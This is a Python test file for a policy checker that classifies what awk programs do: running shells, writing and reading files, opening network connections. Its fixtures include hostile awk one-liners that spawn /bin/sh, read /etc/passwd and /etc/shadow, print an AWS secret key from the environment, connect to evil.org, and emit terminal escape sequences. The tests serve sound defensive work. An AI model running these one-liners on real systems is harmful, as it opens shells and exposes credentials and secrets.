"""Awk programs and what they do besides printing."""

from contextlib import suppress

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.policy.knowledge.use import Use
from services.policy.languages.awk import uses
from services.policy.syntax.tree import NotUnderstood
from services.policy.value import UNKNOWN, Value

pytestmark = pytest.mark.pure

HARMLESS = [
    "{print $1}",
    "",
    "1",
    "NR==2",
    "/a/,/b/",
    "!seen[$0]++",
    'BEGIN{FS=":"; OFS="\\t"} {print $1, $NF}',
    "{ sum += $1 } END { print sum / NR }",
    '{ if ($3 > 5) print $1; else if ($2 < 3) printf "%s\\n", $2 }',
    "{ print ($1 > $2) }",
    "NR > 1 && $2 >= 3 { print; x = y > z ? 1 : 2 } $1 ~ /[\\/]/ || 1",
    '# system("x")\n{ print "# > x" }',
    "function f(a, b) { return a > b }\n{ print f($1, $2) }",
    '{ gsub(/[^[:alnum:]]+/, ""); a[$1] = a[$1] "," $2 } END { for (k in a) print k, a[k] }',
    '{ while ((getline line) > 0) n++ ; close("x") }',
    '{ print "x" > "/dev/stderr" }',
    "BEGIN { print length() / 2 }",
    'BEGIN { PROCINFO["sorted_in"] = "@ind_str_asc"; do { i++ } while (i < 9) }',
    'BEGIN { print "a" \\\n "b" }',
    "{ x = $1 / $2 / 3; y /= 2 }",
    "{ print $1,\n $2 }",
    'BEGIN { system("") }',
    '{ print "\\047" $1 "\\x27\\t", "\\033[31mred\\033[0m", "\\\\033]" }',
]
ACTS = {
    'BEGIN {system("/bin/sh")}': [("shell", "/bin/sh")],
    'BEGIN { system ( "id" ) ; exit }': [("shell", "id")],
    'BEGIN{s="/bin/sh";system(s)}': [("shell", UNKNOWN)],
    'BEGIN{system("rm " x)}': [("shell", UNKNOWN)],
    'BEGIN{system("\\163h")}': [("shell", UNKNOWN)],
    '{print > "out.txt"}': [("write", "out.txt")],
    '{print $1 >> "log"}': [("write", "log")],
    '{print > $1".txt"}': [("write", UNKNOWN)],
    '{print "a" > "b" "c"}': [("write", UNKNOWN)],
    '{print("a")>"b"}': [("write", "b")],
    '{print ("a")("b" > "c") > "d"}': [("write", "d")],
    '{print $1,\n$2 > "b"}': [("write", "b")],
    '{printf "%s", $1 > "b"; if (a > b) x = 1 }': [("write", "b")],
    '{print a ? b : c > "d"}': [("write", "d")],
    '{print | "sort -n"}': [("shell", "sort -n")],
    '{print | "sort " x}': [("shell", UNKNOWN)],
    'BEGIN{print "x" |& "/bin/sh"}': [("shell", "/bin/sh")],
    'BEGIN{"date" | getline d; print d}': [("shell", "date")],
    'BEGIN{while (("ls" | getline f) > 0) print f}': [("shell", "ls")],
    'BEGIN{"a " "b" | getline}': [("shell", UNKNOWN)],
    'BEGIN{cmd="x"; cmd | getline}': [("shell", UNKNOWN)],
    'BEGIN{while ((getline l < "/etc/passwd") > 0) print l}': [("read", "/etc/passwd")],
    'BEGIN{while (getline l < "a" > 0) print l}': [("read", "a")],
    'BEGIN{getline a[f(1)] < "x"}': [("read", "x")],
    'BEGIN{getline a[(getline)] < "x"}': [("read", "x")],
    'BEGIN{getline x getline < "a"}': [("read", "a")],
    'BEGIN{getline < "a" "b"}': [("read", UNKNOWN)],
    "BEGIN{getline x < ARGIND}": [("read", UNKNOWN)],
    'BEGIN{s="/inet/tcp/0/evil.org/80"; print "x" |& s; s |& getline}': [
        ("connect", "evil.org:80"),
        ("shell", UNKNOWN),
        ("shell", UNKNOWN),
    ],
    'BEGIN{s="/inet/tcp/0/" h "/80"}': [("connect", UNKNOWN)],
    '@load "filefuncs"\n1': [("load", "filefuncs")],
    '@include "a.awk"\n1': [("load", "a.awk")],
    'BEGIN{f="system"; @f("id")}': [("code", UNKNOWN)],
    '$0 ~ /"/ { system("id") } #"/': [("shell", "id")],
    '{ a = b / c; system("id") ; d = e / f }': [("shell", "id")],
    '{ print }\n/"/ {system("id")} # "': [("shell", "id")],
    'for (;;) print > "f"': [("write", "f")],
}
REFUSED = [
    "{ x = " + "(" * 40 + "1" + ")" * 40 + " }",
    'BEGIN{print ENVIRON["AWS_SECRET_ACCESS_KEY"]}',
    'BEGIN{ARGV[1]="/etc/shadow"; ARGC=2}',
    'BEGIN{x="ARGV"; SYMTAB[x]}',
    'BEGIN{if (1) /"/ ; system("id") #"/ }',
    'BEGIN{print length /"/ ; system("id") #"/ }',
    '/[/"]/ {system("id")} #"/',
    '/[]/"]/ {system("id")} #"/',
    '/[[/"]/ {system("id")}',
    '{print a[1>"x"]}',
    '{ x = "a" | "b" }',
    '{ "a" >> "b" }',
    "BEGIN{system}",
    "{",
    '{ print "\\033]52;c;\\007" }',
    '{ print "\\x1b]0;x" }',
    '{ print "\\x271b" }',
    '{ printf "%c]0;", 27 }',
    '{ print "\\033[8m" }',
    '"open',
    "{ print $1 & 2 }",
    '@namespace "x"',
    "{ print } )",
    "{ x = (1\n/2) }",
    f"{{print {UNKNOWN}}}",
    "\u00a0{print}",
]


@pytest.mark.parametrize("text", HARMLESS)
def test_a_program_that_only_prints_has_no_uses(text: str):
    assert list(uses(text)) == []


@pytest.mark.parametrize(("text", "expected"), ACTS.items())
def test_what_a_program_does_is_told(text: str, expected: list[tuple[str, str]]):
    assert list(uses(text)) == [Use(role, Value(value)) for role, value in expected]


@pytest.mark.parametrize("text", REFUSED)
def test_a_program_that_is_not_followed_is_refused(text: str):
    with pytest.raises(NotUnderstood):
        list(uses(text))


def test_many_reads_are_followed_in_time():
    assert list(uses("getline " * 2000)) == []


PIECES = st.sampled_from(
    ["print ", "system(", '"x"', "/", "[", "]", "(", ")", "{", "}", "\n", ">", "|", "getline ", "<",
     "a", "1", ";", ",", "\\", "#", "@", "$", '"', "++", "if ", "=", "\u00e9"]
)  # fmt: skip


@settings(max_examples=150, deadline=1000)
@given(st.lists(PIECES, max_size=40).map("".join))
def test_any_text_is_read_or_refused(text: str):
    with suppress(NotUnderstood):
        list(uses(text))
